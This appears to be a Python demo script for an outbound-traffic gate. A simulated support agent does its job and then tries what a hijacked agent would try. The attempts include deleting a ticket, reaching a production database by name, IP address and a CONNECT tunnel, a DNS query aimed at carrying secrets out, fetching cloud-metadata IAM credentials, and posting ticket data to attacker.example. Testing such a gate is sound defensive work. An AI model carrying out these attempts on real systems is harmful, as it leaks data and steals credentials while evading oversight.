#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright 2026 The Yett Authors
"""A support agent that does its work and then tries what a hijacked one would try. Python's standard library only.

It knows nothing of the gate: it uses the proxy that its environment names, as any program does.
"""

import json
import os
import socket
import struct
import sys
import urllib.error
import urllib.parse
import urllib.request

TICKETS = os.environ.get("TICKETS_URL", "http://tickets.quickstart.test:18129")
MODEL = os.environ.get("MODEL_URL", "http://model.quickstart.test:18130")
DATABASE = ("prod-db-01", 5432)
SECONDS = 10


def fetch(url, document=None, method=None):
    body = None if document is None else json.dumps(document).encode()
    request = urllib.request.Request(url, body, {"Content-Type": "application/json"}, method=method)
    with urllib.request.urlopen(request, timeout=SECONDS) as response:
        return json.load(response)


def reason_of(error):
    """Why the gate refused: the reason and the detail of its problem document."""
    try:
        problem = json.loads(error.read())
        return f"{error.code} {problem['reason']}: {problem['detail']}"
    except (ValueError, KeyError, TypeError):
        return f"{error.code} {error.headers.get('Yett-Reason', error.reason)}"


def work():
    ticket = fetch(f"{TICKETS}/tickets/T-881")
    say("allowed", f"read ticket {ticket['id']}", ticket["title"])
    question = {"model": "quickstart", "messages": [{"role": "user", "content": ticket["title"]}]}
    answer = fetch(f"{MODEL}/v1/chat/completions", question)["choices"][0]["message"]["content"]
    say("allowed", "ask the model", answer)


def delete_ticket():
    fetch(f"{TICKETS}/tickets/T-881", method="DELETE")


def database_directly():
    socket.create_connection(DATABASE, timeout=SECONDS).close()


def database_by_address():
    socket.create_connection(("10.0.4.17", DATABASE[1]), timeout=SECONDS).close()


def database_through_proxy():
    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "http://127.0.0.1:3128")
    with socket.create_connection((proxy.hostname, proxy.port), timeout=SECONDS) as connection:
        name = "%s:%d" % DATABASE
        connection.sendall(f"CONNECT {name} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        head = connection.makefile("rb").read1(4096).decode("latin-1").split("\r\n")
    if " 200" not in head[0]:
        reason = next((line for line in head if line.lower().startswith("yett-reason:")), head[0])
        raise OSError(reason or "the proxy closed the connection")


def query_name_server():
    """A question for secret.example.com to a name server outside, the usual way to carry secrets out."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in ("secret", "example", "com"))
    query = struct.pack(">6H", 4711, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.settimeout(2)
        server.sendto(query, ("192.0.2.53", 53))
        server.recv(512)


def cloud_metadata():
    fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")


def unknown_host():
    fetch("http://attacker.example/collect", {"ticket": "T-881"})


ATTEMPTS = [
    ("delete a ticket", delete_ticket),
    ("connect to prod-db-01:5432 directly", database_directly),
    ("connect to 10.0.4.17:5432 directly", database_by_address),
    ("CONNECT prod-db-01:5432 through the gate", database_through_proxy),
    ("ask a name server outside", query_name_server),
    ("read cloud credentials", cloud_metadata),
    ("send the ticket to attacker.example", unknown_host),
]


def say(outcome, attempt, detail):
    print(f"{outcome:>8}  {attempt}\n          {detail}", flush=True)


def main():
    try:
        work()
    except urllib.error.HTTPError as error:
        say("REFUSED", "do its work", reason_of(error))
        return 1
    except OSError as error:
        say("FAILED", "do its work", error)
        return 1
    leaks = 0
    for attempt, run in ATTEMPTS:
        try:
            run()
        except urllib.error.HTTPError as error:
            say("stopped", attempt, reason_of(error))
        except OSError as error:
            say("stopped", attempt, error)
        else:
            leaks += 1
            say("LEAKED", attempt, "it went through")
    print(f"{len(ATTEMPTS) - leaks} of {len(ATTEMPTS)} attempts were stopped")
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
